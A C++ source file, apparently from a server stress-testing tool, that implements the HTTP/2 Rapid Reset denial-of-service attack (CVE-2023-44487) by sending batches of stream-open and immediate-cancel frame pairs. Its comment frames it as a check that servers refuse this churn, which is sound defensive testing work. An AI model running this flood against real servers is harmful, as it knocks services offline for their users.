// h2-rapid-reset (CVE-2023-44487): streams opened and cancelled at once, HEADERS (GET,
// END_STREAM) then RST_STREAM (CANCEL) on each new stream, in batches, reading between
// them; the server must refuse the churn (GOAWAY, or a close), since each stream costs it
// work the client never waits for.
#include "flood_steps.hpp"
#include "loiter/clients/h2/frames.hpp"
#include "loiter/clients/h2/hpack.hpp"

namespace loiter::clients {

namespace {

awaitable<void> rapid_reset_connection(Shared<FloodOptions> options, Slot slot) {
  auto connection =
      connection_for(co_await asio::this_coro::executor, *options, slot, kH2RapidReset);
  const bool opened = co_await h2::open_flood(connection, *options, slot);
  if (!opened) co_return;
  h2::Flood flood(connection, slot.record, *options, 2 * kRapidResetPairs);
  h2::Encoder encoder;
  const auto fields =
      h2::request_headers("GET", options->path, options->authority, options->fleet.tls != nullptr);
  std::uint32_t stream = 1;
  // Each turn sends one batch of pairs: bounded by the flood's frames and its time.
  while (flood.more()) {
    const std::size_t pairs = std::max<std::size_t>(flood.next_batch() / 2, 1);
    std::string batch;
    for (std::size_t i = 0; i < pairs; ++i, stream += 2) {
      batch += h2::headers(stream, encoder.encode(fields), /*end_stream=*/true);
      batch += h2::rst_stream(stream, h2::code::cancel);
    }
    const bool sent = co_await flood.send(batch, 2 * pairs);
    if (!sent) break;
    co_await flood.read_now();
  }
  co_await flood.finish();
}

}  // namespace

void spawn_h2_rapid_reset(asio::io_context& io, const FloodOptions& options,
                          std::vector<ConnectionRecord>& out) {
  h2::spawn_flood(io, options, &rapid_reset_connection, out);
}

}  // namespace loiter::clients
